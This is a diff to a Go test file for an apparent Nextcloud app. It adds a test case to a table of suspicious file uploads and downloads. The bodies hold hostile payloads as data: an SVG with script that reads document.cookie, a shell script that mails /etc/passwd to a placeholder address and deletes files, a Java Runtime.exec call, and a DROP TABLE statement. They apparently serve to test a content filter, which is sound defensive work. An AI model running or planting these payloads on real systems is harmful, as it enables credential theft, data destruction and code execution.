@@ -24,6 +24,7 @@ func TestAppNextcloud(t *testing.T) {
 		{name: "JSON that is none", request: "PUT " + files + "a.json", kind: jsonType, body: `{"a": `},
 		{name: "picture in XML", request: "PUT " + files + "a.svg", kind: "application/xml", body: `<svg onload="alert(1)"><script>alert(document.cookie)</script></svg>`},
 		{name: "program", request: "PUT " + files + "src/backup.sh", kind: "application/x-sh", body: "#!/bin/sh\ncat /etc/passwd | mail -s x a@b.test; rm -rf /tmp/x\n"},
+		{name: "program in Java", request: "PUT " + files + "A.java", kind: "text/x-java", body: "class A { void f() { java.lang.Runtime.getRuntime().exec(\"id\"); } }\nGET /a HTTP/1.1\n"},
 		{name: "dump of a database", request: "PUT " + files + "dump.sql", kind: "application/sql", body: "DROP TABLE users; INSERT INTO users SELECT * FROM old;"},
 		{name: "fetch what has a suspicious name", request: "GET " + files + "conf/.htaccess"},
 		{name: "fetch a dump", request: "GET " + files + "dump.sql"},
